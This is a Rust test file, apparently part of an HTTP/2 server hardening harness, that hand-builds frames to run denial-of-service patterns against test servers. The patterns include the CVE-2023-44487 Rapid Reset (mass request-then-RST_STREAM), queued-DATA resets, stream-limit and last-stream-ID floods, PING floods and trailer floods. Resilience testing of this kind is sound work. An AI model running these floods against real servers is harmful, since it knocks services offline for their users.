//! Streams that are opened, reset and left, by the thousand.

use std::thread;
use std::time::Duration;

use framewright::FrameType;

use crate::attacker::Attacker;
use crate::raw::{END_HEADERS, END_STREAM, frame, get, string, window_update};
use crate::trial::Attack;

const PLENTY: u32 = 1 << 30;

const WIDE: &[(u16, u32)] = &[(4, PLENTY)];

/// The head of a POST.
pub(crate) fn request(stream: u32, path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x04];
    string(&mut block, path);
    block.push(0x01);
    string(&mut block, "test");
    frame(FrameType::HEADERS, END_HEADERS, stream, &block)
}

fn reset(stream: u32) -> Vec<u8> {
    frame(FrameType::RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

/// Resets 10,000 requests, their streams so far apart, but each only once it has
/// reached the server.
fn reset_once_accepted(a: &mut Attacker, distance: u32) {
    a.reads();
    for batch in 0..500 {
        let ids = (batch * 20..batch * 20 + 20).map(|i| distance * i + 1);
        a.each(ids.clone(), |stream| get(stream, "/bytes?1000000", &[]));
        if !a.round_trip() {
            return;
        }
        a.each(ids, reset);
    }
}

#[test]
fn cve_2023_44487_rapid_reset() {
    let attack = Attack::new("rapid reset", |a| {
        a.reads().each(0..50_000, |i| {
            let stream = 2 * i + 1;
            [get(stream, "/bytes?1000000", &[]), reset(stream)].concat()
        });
    });
    attack.on_servers();
}

#[test]
fn cve_2023_44487_reset_once_they_are_accepted() {
    let attack = Attack::new("reset once accepted", |a| reset_once_accepted(a, 2));
    attack.on_servers();
}

#[test]
fn o4_reset_with_queued_data() {
    let attack = Attack::new("reset with queued DATA, nothing read", |a| {
        a.send(&window_update(0, PLENTY));
        for batch in 0..300 {
            let ids = (batch * 10..batch * 10 + 10).map(|i| 2 * i + 1);
            a.each(ids.clone(), |stream| get(stream, "/bytes?10000000", &[]));
            thread::sleep(Duration::from_millis(2));
            a.each(ids, reset);
            thread::sleep(Duration::from_millis(1));
        }
        a.rest();
    });
    // Bare hyper counts those that were reset before it had looked at them.
    attack.with(WIDE).racing().on_servers();
}

#[test]
fn c4_reset_with_queued_data_while_it_is_read() {
    let attack = Attack::new("reset with queued DATA, read", |a| {
        a.reads().send(&window_update(0, PLENTY));
        for batch in 0..200 {
            let ids = (batch * 10..batch * 10 + 10).map(|i| 2 * i + 1);
            a.each(ids.clone(), |stream| get(stream, "/bytes?300000", &[]));
            thread::sleep(Duration::from_millis(1));
            a.each(ids, reset);
            if !a.round_trip() {
                return;
            }
        }
    });
    attack.with(WIDE).on_servers();
}

#[test]
fn rfc9113_5_1_2_more_streams_than_may_be_open() {
    let attack = Attack::new("5,000 streams, 200 may be open", |a| {
        a.reads().each(0..5_000, |i| request(2 * i + 1, "/ignore"));
    });
    attack.on_servers();
}

#[test]
fn rfc9113_5_1_1_the_last_streams() {
    let attack = Attack::new("the last stream numbers", |a| {
        a.reads();
        for stream in [(1_u32 << 31) - 3, (1 << 31) - 1] {
            a.send(&get(stream, "/bytes?1000", &[]));
        }
        a.round_trip();
        // None can be opened any more.
        a.each(0..1_000, |i| get(2 * i + 1, "/bytes?1000", &[]));
    });
    attack.on_servers();
}

#[test]
fn rfc9113_5_1_1_streams_far_apart() {
    let attack = Attack::new("streams far apart, reset", |a| {
        reset_once_accepted(a, 100_002);
    });
    attack.on_servers();
}

#[test]
fn requests_that_are_not_answered() {
    let attack = Attack::new("200 streams that stay, and 20,000 PINGs", |a| {
        a.reads().each(0..200, |i| request(2 * i + 1, "/ignore"));
        a.repeat(20_000, &frame(FrameType::PING, 0, 0, b"floodnum"));
    });
    attack.on_servers();
}

#[test]
fn rfc9113_8_1_trailers_by_the_thousand() {
    let attack = Attack::new("requests that end by trailers", |a| {
        a.reads();
        for batch in 0..100 {
            a.each(0..50, |i| {
                let stream = 2 * (50 * batch + i) + 1;
                let flags = END_HEADERS | END_STREAM;
                let trailers = frame(FrameType::HEADERS, flags, stream, b"\x00\x01a\x01b");
                [request(stream, "/read"), trailers].concat()
            });
            if !a.round_trip() {
                return;
            }
        }
    });
    attack.on_servers();
}
